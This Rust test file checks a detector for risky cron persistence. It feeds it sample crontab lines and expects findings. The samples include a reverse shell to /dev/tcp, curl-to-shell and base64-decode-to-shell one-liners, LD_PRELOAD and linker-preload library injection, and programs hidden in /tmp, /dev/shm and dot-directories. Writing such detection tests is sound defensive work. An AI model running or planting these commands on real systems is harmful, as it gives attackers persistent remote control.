use crate::testing::check;
const NAME: &str = "persistence/cron-risky";
const ACCOUNTS: &str = "/etc/passwd = root:x:0:0::/root:/bin/bash\\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\\n\
    anna:x:1000:1000::/home/anna:/bin/bash\\n\npackage cron 3 owns /usr/sbin/cron,/usr/bin/rsync,/usr/bin/php\n";

/// A line of a table of the system: what is said of it, or nothing.
#[track_caller]
fn check_line(command: &str, expected: &str) {
    let host = format!("{ACCOUNTS}/etc/cron.d/x = */5 * * * * root {command}\\n");
    let expected: Vec<String> =
        if expected.is_empty() { vec![] } else { vec![format!("suspicious: /etc/cron.d/x line 1 {expected}")] };
    check(NAME, &host, &expected.iter().map(String::as_str).collect::<Vec<_>>());
}
#[track_caller]
fn check_of_anna(command: &str, more: &str, expected: &str) {
    let host = format!(
        "{ACCOUNTS}/var/spool/cron/crontabs/anna = {command}\\n\n/var/spool/cron/crontabs/anna : uid=1000\n{more}"
    );
    let expected: Vec<String> = if expected.is_empty() {
        vec![]
    } else {
        vec![format!("suspicious: /var/spool/cron/crontabs/anna line 1 {expected}")]
    };
    check(NAME, &host, &expected.iter().map(String::as_str).collect::<Vec<_>>());
}

#[test]
fn programs_in_volatile_and_hidden_places() {
    check_line("/dev/shm/.x/y >/dev/null 2>&1", "starts /dev/shm/.x/y, which lies in /dev/shm and is not there now");
    check_line("/tmp/a", "starts /tmp/a, which lies in /tmp and is not there now");
    check_line(
        "/var/tmp/.../y",
        "starts /var/tmp/.../y, which lies with a name of nothing but dots and is not there now",
    );
    check_line(
        "/tmp/.ICE-unix/y",
        "starts /tmp/.ICE-unix/y, which lies where nothing but sockets lies and is not there now",
    );
    check_line("/usr/lib/.k/y", "starts /usr/lib/.k/y, which hides and is not there now");
    check_line("nice -n 5 sh -c 'exec /var/tmp/k'", "starts /var/tmp/k, which lies in /var/tmp and is not there now");
    check_line("cd /tmp && ./k &", "starts /tmp/k, which lies in /tmp and is not there now");
    check_line("python3 /dev/shm/k.py", "starts /dev/shm/k.py, which lies in /dev/shm and is not there now");
    check_line("env A=b setsid /dev/shm/k", "starts /dev/shm/k, which lies in /dev/shm and is not there now");
    check_line("d=/dev/shm; $d/k", "starts /dev/shm/k, which lies in /dev/shm and is not there now");
}
#[test]
fn programs_of_no_package_among_data() {
    let host = |path: &str| {
        format!("{ACCOUNTS}/etc/cron.d/x = @daily root {path}\n\n{path} = #!/bin/sh\\n\n{path} : mode=100755")
    };
    for dir in ["/var/cache", "/var/log", "/boot", "/run"] {
        let text = format!(
            "suspicious: /etc/cron.d/x line 1 starts {dir}/k, which no package owns and which lies among the data of {dir}"
        );
        check(NAME, &host(&format!("{dir}/k")), &[&text]);
    }
    let text = "unusual: /etc/cron.d/x line 1 starts /usr/bin/k, which no package owns and which lies among packages' \
                programs";
    check(NAME, &host("/usr/bin/k"), &[text]);
    for path in ["/usr/local/bin/k", "/var/lib/app/k", "/root/k"] {
        check(NAME, &host(path), &[]);
    }
    check(NAME, &format!("{}\npackage k 1 owns /var/cache/k", host("/var/cache/k")), &[]);
}
#[test]
fn code_from_elsewhere() {
    check_line("curl -fsSL http://x | sh", "fetches code and runs it");
    check_line("echo dHJ1ZQ== | base64 -d | sh", "decodes code and runs it");
    check_line("sh\\\\%curl x | cat", "");
    check_line("bash%curl x | sh", "fetches code and runs it");
    check_line("base64 -d /dev/shm/x | sh", "decodes code and runs it");
    let host = "/etc/cron.d/x = @daily root base64 -d /srv/x | sh";
    check(NAME, host, &["unusual: /etc/cron.d/x line 1 unpacks code and runs it"]);
    check_line(
        "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'",
        "opens a connection to elsewhere as a shell's input or output",
    );
}
#[test]
fn other_tables_and_times() {
    for (table, line) in [
        ("/var/spool/cron/crontabs/www-data", "*/7 * * * * "),
        ("/var/spool/cron/root", "@reboot "),
        ("/var/spool/cron/tabs/root", "0 0 1 1 * "),
        ("/etc/crontab", "@hourly root "),
        ("/etc/cron.d/x", "-*/5 * * * 1-5 root "),
        ("/etc/anacrontab", "1 5 cron.x "),
    ] {
        let text = format!("suspicious: {table} line 2 decodes code and runs it");
        check(NAME, &format!("{ACCOUNTS}{table} = # x\\n{line}echo x|base64 -d|sh"), &[&text]);
    }
    let script = format!("{ACCOUNTS}/etc/cron.daily/x = #!/bin/bash\\ncurl x|bash\\n\n/etc/cron.daily/x : mode=100755");
    check(NAME, &script, &["suspicious: /etc/cron.daily/x fetches code and runs it"]);
}
#[test]
fn a_table_with_libraries_of_its_own() {
    let host = format!("{ACCOUNTS}/etc/cron.d/x = LD_PRELOAD=/usr/lib/l.so\\n\n/usr/lib/l.so = x");
    let text = "suspicious: /etc/cron.d/x line 1 has what it starts load /usr/lib/l.so, which no package owns";
    check(NAME, &host, &[text]);
    check(NAME, &format!("{host}\npackage l 1 owns /usr/lib/l.so"), &[]);
}
#[test]
fn libraries_by_the_dynamic_linker() {
    let loader = "/lib64/ld-linux-x86-64.so.2";
    let host = |options: &str, library: &str| {
        format!("{ACCOUNTS}/etc/cron.d/x = @reboot root {loader} {options} /usr/sbin/cron -f\\n\n{library} = x\n")
    };
    for (options, library, loaded) in [
        ("--preload /var/l.so", "/var/l.so", "/var/l.so"),
        ("--argv0 cron --preload=/usr/lib/l.so", "/usr/lib/l.so", "/usr/lib/l.so"),
        ("--audit /etc/l.so", "/etc/l.so", "/etc/l.so"),
        ("--library-path /opt/l:/var/l", "/var/l/libc.so.6", "/var/l/libc.so.6"),
    ] {
        let host = host(options, library);
        let text = format!("suspicious: /etc/cron.d/x line 1 has what it starts load {loaded}, which no package owns");
        check(NAME, &host, &[&text]);
        check(NAME, &format!("{host}package l 1 owns {library}"), &[]);
    }
    for (options, library) in [
        ("--preload /opt/agent/lib/a.so", "/opt/agent/lib/a.so"),
        ("--library-path /opt/app/lib", "/opt/app/lib/x.so"),
        ("--preload /var/gone.so", "/var/l.so"),
        ("--library-path /var/l", "/var/l/x.txt"),
    ] {
        check(NAME, &host(options, library), &[]);
    }
    check_line("LD_PRELOAD=/var/gone.so certbot renew", "");
    let assigned = format!("{ACCOUNTS}/etc/cron.d/x = @daily root env LD_PRELOAD=/var/l.so php\\n\n/var/l.so = x\n");
    let text = "suspicious: /etc/cron.d/x line 1 has what it starts load /var/l.so, which no package owns";
    check(NAME, &assigned, &[text]);
    check(NAME, &format!("{assigned}package l 1 owns /var/l.so"), &[]);
    check_line(&format!("{loader} /tmp/k -d"), "starts /tmp/k, which lies in /tmp and is not there now");
    check_line(&format!("{loader} /usr/sbin/cron"), "");
}
#[test]
fn what_a_package_brought_is_quiet() {
    let line = "/etc/cron.d/x = * * * * * root /tmp/a\\n\n/tmp/a = x\n";
    check(NAME, &format!("{line}package x 1 owns /etc/cron.d/x"), &[]);
    check(NAME, &format!("{line}package x 1"), &["suspicious: /etc/cron.d/x line 1 starts /tmp/a, which lies in /tmp"]);
    // An admin's change to a package's table is not the package's.
    check(
        NAME,
        &format!("{line}package x 1 owns /etc/cron.d/x\ntampered /etc/cron.d/x"),
        &["suspicious: /etc/cron.d/x line 1 starts /tmp/a, which lies in /tmp"],
    );
}
#[test]
fn a_table_that_cron_passes_by() {
    let host = "package x 1\n/etc/debian_version = 12\n/etc/cron.d/x.bak = * * * * * root ";
    let text = "unusual: /etc/cron.d/x.bak line 1 starts /tmp/a, which lies in /tmp and is not there now \
                (does not start as it is)";
    check(NAME, &format!("{host}/tmp/a"), &[text]);
    let text = "suspicious: /etc/cron.d/x.bak line 1 fetches code and runs it (does not start as it is)";
    check(NAME, &format!("{host}curl x | sh"), &[text]);
}
#[test]
fn hidden_below_a_home() {
    let says = "which hides among a person's files and is no part of a set of tools";
    let path = "/home/anna/.config/.k/k";
    check_of_anna(&format!("@reboot {path} &"), &format!("{path} : mode=100755"), &format!("starts {path}, {says}"));
    let path = "/home/anna/.k/k";
    check_of_anna("@reboot ~/.k/k", &format!("{path} : mode=100755"), &format!("starts {path}, {says}"));
    let path = "/home/anna/.k";
    check_of_anna("@daily sh .k", &format!("{path} : mode=100755"), &format!("starts {path}, {says}"));
    for path in [".nvm/versions/node/v20/bin/node", ".local/bin/tool", ".cargo/bin/x", "bin/start.sh", "app/run"] {
        check_of_anna(&format!("@reboot /home/anna/{path}"), &format!("/home/anna/{path} : mode=100755"), "");
    }
    let tree =
        ["acme.sh", "account.conf", "dnsapi/x", "deploy/x"].map(|name| format!("/home/anna/.acme.sh/{name} = x\n"));
    check_of_anna("@daily \"/home/anna/.acme.sh\"/acme.sh --cron", &tree.concat(), "");
}
#[test]
fn a_service_accounts_own_program() {
    let host = |uid: u32| {
        format!(
            "{ACCOUNTS}/var/spool/cron/crontabs/www-data = * * * * * /var/www/html/up\\n\n\
             /var/spool/cron/crontabs/www-data : uid=33\n/var/www/html/up : mode=100755 uid={uid}"
        )
    };
    let text = "suspicious: /var/spool/cron/crontabs/www-data line 1 starts /var/www/html/up, which the service account \
                itself owns";
    check(NAME, &host(33), &[text]);
    check(NAME, &host(0), &[]);
}
#[test]
fn jobs_of_admins_are_quiet() {
    for command in [
        "rsync -a /srv/ backup:/srv/",
        "curl -fsS -m 10 https://hc-ping.com/x >/dev/null",
        "test -x /usr/bin/certbot && certbot -q renew",
        "cd /srv/app && ./venv/bin/python manage.py clearsessions",
        "php /var/www/nextcloud/cron.php",
        "/opt/agent/bin/agent --once",
        "/root/backup.sh",
        "/usr/local/sbin/own >/tmp/log 2>&1",
        "/snap/bin/x; /var/lib/app/run",
        "mkdir -p /tmp/work && tar xf /srv/x -C /tmp/work",
    ] {
        check_line(command, "");
    }
    check_of_anna("@reboot /home/anna/bin/start.sh", "/home/anna/bin/start.sh = x", "");
    let nvm = ["nvm.sh", "alias/x", "versions/x", "README.md"].map(|name| format!("/home/anna/.nvm/{name} = x\n"));
    check_of_anna(". ~/.nvm/nvm.sh && node bot/index.js", &nvm.concat(), "");
    check(NAME, "", &[]);
}
#[test]
fn scripts_in_other_languages() {
    let host = |script: &str| {
        format!("{ACCOUNTS}/etc/cron.daily/x = #!/usr/bin/python3\\n{script}\\n\n/etc/cron.daily/x : mode=100755")
    };
    let text = "suspicious: /etc/cron.daily/x holds code that decodes code and runs it";
    check(NAME, &host("import base64\\nexec(base64.b64decode('x'))"), &[text]);
    let honest = "import socket, subprocess, base64, requests\\nname = socket.gethostname()\\n\
                  subprocess.run(['rsync', name])\\nkey = base64.b64decode(open('/srv/k').read())\\nrequests.get('http://x')";
    check(NAME, &host(honest), &[]);
}
